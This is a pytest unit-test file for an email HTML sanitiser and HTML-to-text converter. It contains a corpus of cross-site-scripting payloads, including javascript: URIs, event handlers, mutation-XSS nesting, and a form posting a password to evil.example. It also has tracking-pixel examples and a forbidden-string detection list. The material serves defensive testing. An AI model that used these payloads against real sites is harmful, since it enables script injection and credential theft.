"""Sanitising hostile HTML and turning HTML into text."""

from __future__ import annotations

import re

import pytest

from channels.email.html import html_to_text, sanitize_html
from channels.email.parse import parse_email
from tests.unit.email.builders import HEAD, eml

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<body onload="alert(1)">',
    '<div onmouseover="alert(1)" onclick="alert(1)">hover</div>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<div style="width: expression(alert(1))">css</div>',
    '<div style="background:url(javascript:alert(1))">css</div>',
    '<div style="background-image: u\\72l(https://tracker.example/css.gif)">css</div>',
    '<p style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">css</p>',
    "<style>@import 'https://evil.example/x.css';"
    " body{background:url(javascript:alert(1))}</style>",
    '<svg onload="alert(1)"><script>alert(1)</script><circle r="1"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<img src="https://tracker.example/open.gif?u=jane" width="1" height="1">',
    '<img src="HTTP://TRACKER.EXAMPLE/UPPER.GIF">',
    '<img srcset="https://tracker.example/1.gif 1x, https://tracker.example/2.gif 2x">',
    '<img src="//tracker.example/scheme-relative.gif">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<table background="https://tracker.example/bg.gif"><tr><td>cell</td></tr></table>',
    '<form action="https://evil.example/steal" method="post"><input name="password">'
    '<button formaction="javascript:alert(1)">Send</button><select><option>x</option></select>'
    "<textarea>t</textarea></form>",
    '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a href="/relative/admin?delete=1">relative</a>',
    '<div id="login" class="btn" data-x="1" name="form">attrs</div>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<x-custom onclick="alert(1)">custom</x-custom>',
    '<video src="https://evil.example/v.mp4" poster="https://tracker.example/p.gif"></video>',
    '<a href="https://example.com/" target="_self" rel="opener">link</a>',
]
FORBIDDEN = [
    "<script", "alert", "javascript", "vbscript", "expression(", "onerror", "onload",
    "onclick", "onmouseover", "<svg", "<math", "<form", "<input", "<button", "<select",
    "<textarea", "<iframe", "srcdoc", "<object", "<embed", "<meta", "http-equiv", "<base",
    "<link", "<style", "@import", "url(", "behavior", "binding", "data:text", "data:image/svg",
    "srcset", "background=", "/relative", "id=", "class=", "data-x", "name=", "<x-custom",
    "<video", "poster", "formaction", '"opener"', "_self", "evil.example", "svg link",
]


def test_hostile_corpus_is_neutralised() -> None:
    out = sanitize_html("\n".join(HOSTILE)).lower()
    for needle in FORBIDDEN:
        assert needle not in out, needle
    # Remote images: no src that a browser would load.
    assert not re.search(r"\ssrc=\"(?:https?:)?//", out)
    assert 'data-remote-src="https://tracker.example/open.gif?u=jane"' in out
    assert 'data-remote-src="http://tracker.example/upper.gif"' in out
    # Harmless content survives.
    for text in ("hover", "click", "css", "cell", "attrs", "custom", "relative"):
        assert text in out, text


@pytest.mark.parametrize("snippet", HOSTILE)
def test_each_hostile_snippet_alone(snippet: str) -> None:
    out = sanitize_html(snippet).lower()
    assert not any(needle in out for needle in FORBIDDEN), out
    assert not re.search(r"\ssrc=\"(?:https?:)?//", out)


def test_remote_image_blocked_cid_kept() -> None:
    out = sanitize_html(
        '<img src="https://cdn.example/logo.png" alt="Logo" width="80">'
        '<img src="cid:part1.ABC@example.net" alt="photo">'
    )
    assert out == (
        '<img data-remote-src="https://cdn.example/logo.png" alt="Logo" width="80">'
        '<img src="cid:part1.ABC@example.net" alt="photo">'
    )


def test_cleaning_again_keeps_blocked_images_and_stays_safe() -> None:
    """The thread page cleans the stored HTML once more: the blocked remote
    image keeps its data-remote-src (http(s) only), nothing else changes."""
    once = sanitize_html("\n".join(HOSTILE))
    twice = sanitize_html(once)
    assert 'data-remote-src="https://tracker.example/open.gif?u=jane"' in twice
    assert sanitize_html(twice) == twice
    assert not any(needle in twice.lower() for needle in FORBIDDEN)
    assert sanitize_html('<img data-remote-src="javascript:alert(1)" alt="x">') == '<img alt="x">'


def test_inline_raster_data_image_is_kept() -> None:
    png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    assert f'src="{png}"' in sanitize_html(f'<img src="{png}" alt="sig">')


def test_links_open_in_a_new_tab_without_referrer() -> None:
    out = sanitize_html('<a href="https://example.com/claim?id=1&amp;x=2">claim</a>')
    assert out == (
        '<a href="https://example.com/claim?id=1&amp;x=2" target="_blank" '
        'rel="noopener noreferrer nofollow">claim</a>'
    )
    assert 'href="mailto:claims@example.com"' in sanitize_html(
        '<a href="mailto:claims@example.com">mail</a>'
    )


def test_safe_styles_are_kept() -> None:
    out = sanitize_html(
        '<p style="color: #c00; font-weight: bold; position: fixed; top: 0; '
        'background: url(https://t.example/x)">red</p>'
    )
    assert out == '<p style="color:#c00;font-weight:bold">red</p>'


def test_formatting_is_kept() -> None:
    html = (
        '<table border="1"><tr><td colspan="2" align="right">a</td></tr></table>'
        "<blockquote><p><b>bold</b> <i>it</i></p></blockquote><ul><li>one</li></ul>"
    )
    assert sanitize_html(html) == html.replace("<tr>", "<tbody><tr>").replace(
        "</table>", "</tbody></table>"
    )


def test_parse_email_sanitises_the_html_body() -> None:
    body = '<p onclick="x()">Hi</p><img src="https://t.example/p.gif"><script>alert(1)</script>'
    inbound = parse_email(eml(HEAD + "Subject: x\nContent-Type: text/html; charset=utf-8\n", body))
    assert inbound.html == '<p>Hi</p><img data-remote-src="https://t.example/p.gif">'
    assert inbound.text == "Hi"


def test_html_to_text() -> None:
    html = (
        "<html><head><title>Title</title><style>p {color: red}</style></head><body>"
        "<h1>Claim</h1><p>Dear team,<br>my car was <b>damaged</b>&nbsp;on Monday.</p>"
        "<div>Photos: <a href='https://x.example'>link</a></div>"
        "<ul><li>front</li><li>back</li></ul>"
        "<table><tr><td>Policy</td><td>POL-1</td></tr><tr><td>Claim</td><td>CLM-2</td></tr></table>"
        "<pre>  keep\n    spacing</pre>"
        "<script>var x = 1;</script><p>Regards &amp; thanks,<br>Jane</p>"
        "<blockquote><p>On Mon wrote:</p><p>old text</p></blockquote>"
        "</body></html>"
    )
    assert html_to_text(html) == (
        "Claim\n\nDear team,\nmy car was damaged\u00a0on Monday.\n\n"
        "Photos: link\n- front\n- back\n\n"
        "Policy POL-1\nClaim CLM-2\n\n  keep\n    spacing\n\nRegards & thanks,\nJane\n\n"
        "> On Mon wrote:\n>\n> old text"
    )


def test_html_to_text_of_empty_and_plain_input() -> None:
    assert html_to_text("") == ""
    assert html_to_text("just text") == "just text"
    assert html_to_text("a &lt;b&gt; c") == "a <b> c"
